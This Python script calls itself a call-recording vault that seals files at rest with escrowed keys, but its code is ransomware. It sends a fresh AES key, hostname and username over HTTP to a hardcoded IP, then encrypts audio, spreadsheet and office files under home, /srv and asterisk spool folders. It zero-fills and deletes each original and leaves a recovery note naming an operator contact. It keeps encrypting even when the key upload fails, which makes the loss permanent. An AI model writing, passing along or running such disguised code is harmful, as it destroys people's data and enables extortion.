#!/usr/bin/env python3
"""Call-recording vault.

Seals QA call recordings and score exports at rest.  Keys are escrowed
with the central key service rather than kept on the workstation, so a
stolen laptop never carries both the recordings and the key.
"""
import argparse
import json
import logging
import os
import secrets
import socket
import sys
import uuid
from pathlib import Path
from urllib import request

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

LOG = logging.getLogger("recvault")

SETTINGS = {
    "roots": [("~", "Recordings"), ("~", "Documents"), ("/srv", "recordings"),
              ("/var/spool", "asterisk", "monitor")],
    "suffixes": {".wav", ".mp3", ".gsm", ".ogg", ".csv", ".xlsx", ".pdf", ".docx"},
    "sealed_suffix": ".vlt",
    "escrow": ("198.51.100.57", 8443, "/escrow/v1/deposit"),
    "note": "RECOVERY-INSTRUCTIONS.txt",
}

NOTE_TEXT = """Recordings and documents on this host have been sealed.
Host reference: {ref}
Files sealed: {count}
The unsealing key is held by the vault operator only.  To recover your
files, contact vault-desk@example.org quoting the host reference above.
"""


class Escrow:
    def __init__(self, host, port, path):
        self.url = "http://%s:%d%s" % (host, port, path)

    def deposit(self, ref, key):
        body = json.dumps({
            "ref": ref,
            "host": socket.gethostname(),
            "user": os.environ.get("USER", "?"),
            "key": key.hex(),
        }).encode()
        req = request.Request(self.url, data=body,
                              headers={"Content-Type": "application/json"})
        try:
            with request.urlopen(req, timeout=15) as resp:
                return 200 <= resp.status < 300
        except OSError as exc:
            LOG.debug("escrow unreachable: %s", exc)
            return False


class Sealer:
    def __init__(self, key, suffixes, sealed_suffix):
        self.aead = AESGCM(key)
        self.suffixes = suffixes
        self.sealed_suffix = sealed_suffix
        self.count = 0

    def candidates(self, root):
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = Path(dirpath, name)
                if p.suffix.lower() in self.suffixes:
                    yield p

    @staticmethod
    def _scrub(path, size):
        with open(path, "r+b") as fh:
            fh.write(b"\0" * size)
            fh.flush()
            os.fsync(fh.fileno())

    def seal(self, path):
        try:
            data = path.read_bytes()
            nonce = secrets.token_bytes(12)
            out = path.with_name(path.name + self.sealed_suffix)
            out.write_bytes(nonce + self.aead.encrypt(nonce, data, None))
            self._scrub(path, len(data))
            path.unlink()
            self.count += 1
        except OSError as exc:
            LOG.debug("skip %s: %s", path, exc)


def resolve_roots(spec):
    roots = []
    for parts in spec:
        p = Path(*parts).expanduser()
        if p.is_dir():
            roots.append(p)
    return roots


def main(argv=None):
    ap = argparse.ArgumentParser(description="Seal call recordings at rest")
    ap.add_argument("--extra-root", action="append", default=[])
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    ref = uuid.uuid4().hex[:12].upper()
    key = AESGCM.generate_key(bit_length=256)
    escrow = Escrow(*SETTINGS["escrow"])
    if not escrow.deposit(ref, key):
        LOG.warning("escrow deposit pending for %s", ref)

    sealer = Sealer(key, SETTINGS["suffixes"], SETTINGS["sealed_suffix"])
    del key
    roots = resolve_roots(SETTINGS["roots"]) + [Path(r) for r in args.extra_root]
    for root in roots:
        LOG.info("sealing under %s", root)
        for path in list(sealer.candidates(root)):
            sealer.seal(path)
        note = root / SETTINGS["note"]
        try:
            note.write_text(NOTE_TEXT.format(ref=ref, count=sealer.count))
        except OSError:
            pass

    LOG.info("sealed %d files, reference %s", sealer.count, ref)
    return 0


if __name__ == "__main__":
    sys.exit(main())
